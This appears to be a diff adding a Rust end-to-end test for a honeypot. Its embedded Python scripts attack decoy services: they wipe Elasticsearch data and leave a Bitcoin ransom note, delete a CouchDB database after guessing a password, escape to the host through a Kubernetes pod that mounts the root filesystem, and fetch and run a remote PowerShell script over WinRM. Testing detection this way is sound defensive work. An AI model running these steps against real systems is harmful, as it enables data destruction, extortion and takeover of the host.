@@ -1,0 +1,182 @@
+//! Services whose interface is HTTP, with the clients that people use: what the client sees and what is stored agree.
+
+use crate::fleet::{Fleet, client, have, printed};
+
+const FLEET: &str = "[general]\nnet = 127.112.0.0/16\nseed = e2e\n\n\
+    [search]\nip = 127.112.1.0\ndistro = debian\nservices = elasticsearch\n\n[search.elasticsearch]\nsecurity = off\n\n\
+    [couch]\nip = 127.112.1.1\ndistro = debian\nlogin = accept-after=2\nservices = couchdb\n\n\
+    [cluster]\nip = 127.112.1.2\ndistro = ubuntu22\nservices = k8s\n\n\
+    [desk]\nip = 127.112.1.3\ndistro = server2019\nlogin = accept-listed\nservices = winrm\n\n\
+    [desk.winrm]\npassword = Winter2024!\n";
+
+const SEARCH: &str = "
+import sys, warnings
+warnings.simplefilter('ignore')
+from elasticsearch import Elasticsearch, helpers, NotFoundError
+client = Elasticsearch([f'http://{sys.argv[1]}:19200'])
+assert client.info()['tagline'] == 'You Know, for Search'
+found = client.search(index='customers', body={'query': {'range': {'id': {'lte': 5}}}, 'sort': ['id'], 'size': 3})
+assert found['hits']['total']['value'] == 5, found
+assert [hit['_source']['id'] for hit in found['hits']['hits']] == [1, 2, 3], found
+assert len(list(helpers.scan(client, index='customers', size=20))) == 48
+helpers.bulk(client, [{'_index': 'e2e', '_id': n, 'number': n} for n in range(5)])
+assert client.count(index='e2e')['count'] == 5
+assert client.get(index='e2e', id=3)['_source'] == {'number': 3}
+client.indices.delete(index='customers')
+client.index(index='read_me', body={'message': 'your data is backed up, send 0.01 BTC'}, refresh=True)
+try:
+    client.search(index='customers')
+    assert False
+except NotFoundError:
+    print('done')
+";
+
+const REMOTE: &str = "
+import sys, winrm
+from winrm.exceptions import InvalidCredentialsError
+url = f'http://{sys.argv[1]}:15985/wsman'
+try:
+    winrm.Session(url, auth=('administrator', 'e2eguess'), transport='ntlm').run_cmd('whoami')
+    assert False
+except InvalidCredentialsError:
+    pass
+session = winrm.Session(url, auth=('administrator', 'Winter2024!'), transport='ntlm')
+result = session.run_cmd('whoami')
+assert result.status_code == 0 and result.std_out.strip().endswith(b'administrator'), result.std_out
+result = session.run_ps('IEX(New-Object Net.WebClient).DownloadString(\"http://192.0.2.9/e2e.ps1\")')
+assert result.status_code == 0, result.std_err
+assert session.run_cmd('nosuchprogram').status_code == 1
+print('done')
+";
+
+const MAPPER: &str = "
+import sys
+from impacket.dcerpc.v5 import epm, transport, dcomrt
+where = transport.DCERPCTransportFactory(f'ncacn_ip_tcp:{sys.argv[1]}[10135]')
+dce = where.get_dce_rpc()
+dce.connect()
+entries = epm.hept_lookup(None, dce=dce)
+notes = {entry['annotation'][:-1] for entry in entries}
+bindings = [epm.PrintStringBinding(entry['tower']['Floors']) for entry in entries]
+assert b'Event log TCPIP' in notes, notes
+assert any(binding.startswith('ncacn_ip_tcp:') and binding.endswith('[49664]') for binding in bindings), bindings
+dce.disconnect()
+dce = where.get_dce_rpc()
+dce.connect()
+bindings = dcomrt.IObjectExporter(dce).ServerAlive2()
+assert any(binding['aNetworkAddr'].startswith(sys.argv[1]) for binding in bindings), bindings
+print('done')
+";
+
+const EXEC: &str = "
+import base64, os, socket, ssl, sys
+context = ssl._create_unverified_context()
+stream = context.wrap_socket(socket.create_connection((sys.argv[1], 16443)))
+stream.sendall(b'GET \
+/api/v1/namespaces/default/pods/e2e/exec?command=cat&command=/host/etc/hostname&stdout=true&stderr=true '
+    b'HTTP/1.1\\r\\nHost: h\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\n'
+    b'Sec-WebSocket-Key: ' + base64.b64encode(os.urandom(16)) + b'\\r\\nSec-WebSocket-Protocol: \
+    v4.channel.k8s.io\\r\\n\\r\\n')
+told = b''
+while True:
+    piece = stream.recv(4096)
+    if not piece:
+        break
+    told += piece
+assert b'101 Switching Protocols' in told and b'\"status\":\"Success\"' in told, told
+print(told)
+print('done')
+";
+
+fn module(name: &str, package: &str) -> bool {
+    let found = client("python3", &["-c", &format!("import {name}")]).status.success();
+    assert!(found || std::env::var("CI").is_err(), "{name} is missing: apt-get install {package}");
+    found
+}
+
+fn python(script: &str, ip: &str) -> String {
+    let seen = printed(&client("python3", &["-c", script, ip]));
+    assert!(seen.ends_with("done\n"), "{seen}");
+    seen
+}
+
+#[test]
+fn interfaces_over_http_take_what_their_clients_say_and_keep_it() {
+    let tools = [("python3", "python3"), ("curl", "curl"), ("nmap", "nmap")];
+    let modules = [
+        ("elasticsearch", "python3-elasticsearch"),
+        ("winrm", "python3-winrm"),
+        ("impacket", "python3-impacket"),
+    ];
+    if !tools.iter().all(|(tool, package)| have(tool, package))
+        || !modules.iter().all(|(name, package)| module(name, package))
+    {
+        return;
+    }
+    let fleet = Fleet::deploy_config(112, FLEET);
+    search(&fleet);
+    couch(&fleet);
+    cluster(&fleet);
+    windows(&fleet);
+}
+
+fn search(fleet: &Fleet) {
+    python(SEARCH, &fleet.ip(0));
+    fleet.wait_for_text("exploit_attempt", "technique", "elasticsearch data destruction");
+    fleet.wait_for_text("exploit_attempt", "technique", "database ransom note");
+    fleet.wait_for_text("query", "query", "\"range\"");
+    let list =
+        printed(&client("curl", &["-s", &format!("http://{}:19200/_cat/indices?h=index", fleet.ip(0))]));
+    assert!(list.contains("read_me") && !list.contains("customers"), "{list}");
+}
+
+fn couch(fleet: &Fleet) {
+    let url = |path: &str| format!("http://{}:15984{path}", fleet.ip(1));
+    let ask = |words: &[&str]| printed(&client("curl", &[&["-s"], words].concat()));
+    assert!(ask(&[&url("/")]).starts_with("{\"couchdb\":\"Welcome\",\"version\":\"3.3."));
+    assert!(ask(&[&url("/_all_dbs")]).contains("You are not a server admin."));
+    assert!(ask(&["-u", "admin:first", &url("/_all_dbs")]).contains("Name or password is incorrect."));
+    let list = ask(&["-u", "admin:e2esecond", &url("/_all_dbs")]);
+    assert!(list.contains("\"customers\""), "{list}");
+    assert_eq!(ask(&["-u", "admin:e2esecond", "-X", "DELETE", &url("/customers")]), "{\"ok\":true}\n");
+    fleet.wait_for_text("auth_attempt", "secret_printable", "e2esecond");
+    fleet.wait_for_text("exploit_attempt", "technique", "couchdb data destruction");
+    let scan = ["-Pn", "-sT", "-sV", "-p", "15984", &fleet.ip(1)];
+    let seen = printed(&client("nmap", &scan));
+    assert!(seen.contains("CouchDB httpd 3.3."), "{seen}");
+}
+
+fn cluster(fleet: &Fleet) {
+    let url = |path: &str| format!("https://{}:16443{path}", fleet.ip(2));
+    let ask = |words: &[&str]| printed(&client("curl", &[&["-sk"], words].concat()));
+    assert!(ask(&[&url("/version")]).contains("\"gitVersion\": \"v1."), "pretty for curl");
+    let pod = "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"e2e\"},\"spec\":{\"containers\":[\
+        {\"name\":\"a\",\
+               \"image\":\"alpine\",\"volumeMounts\":[{\"name\":\"h\",\"mountPath\":\"/host\"}]}],\"volumes\":[{\"n\
+                   ame\":\"h\",\
+               \"hostPath\":{\"path\":\"/\"}}]}}";
+    let made =
+        ask(&["-H", "Content-Type: application/json", "-d", pod, &url("/api/v1/namespaces/default/pods")]);
+    assert!(made.contains("\"phase\": \"Running\""), "{made}");
+    python(EXEC, &fleet.ip(2));
+    assert!(ask(&[&url("/api/v1/secrets")]).contains("db-credentials"));
+    fleet.wait_for_text("exploit_attempt", "technique", "kubernetes pod with hostPath");
+    fleet.wait_for_text("exploit_attempt", "technique", "kubernetes exec into a pod");
+    fleet.wait_for_text("file_read", "path", "secrets");
+    fleet.wait_for_text("command", "mounts", "/:/host");
+    let kubelet = format!("https://{}:20250/run/default/e2e/a", fleet.ip(2));
+    assert!(ask(&["-d", "cmd=id", &kubelet]).starts_with("uid=0(root)"));
+}
+
+fn windows(fleet: &Fleet) {
+    python(REMOTE, &fleet.ip(3));
+    let line = fleet.wait_for_text("auth_attempt", "outcome", "rejected");
+    assert!(line["fields"]["crack_line"].as_str().is_some_and(|line| line.contains("::")), "{line}");
+    fleet.wait_for_text("command", "command", "whoami");
+    fleet.wait_for_text("download_attempt", "url", "http://192.0.2.9/e2e.ps1");
+    python(MAPPER, &fleet.ip(3));
+    fleet.wait_for_text("command", "command", "ept_lookup");
+    let scan = ["-Pn", "-sT", "-sV", "-p", "15985,10135", &fleet.ip(3)];
+    let seen = printed(&client("nmap", &scan));
+    assert!(seen.contains("Microsoft HTTPAPI httpd 2.0") && seen.contains("Microsoft Windows RPC"), "{seen}");
+}
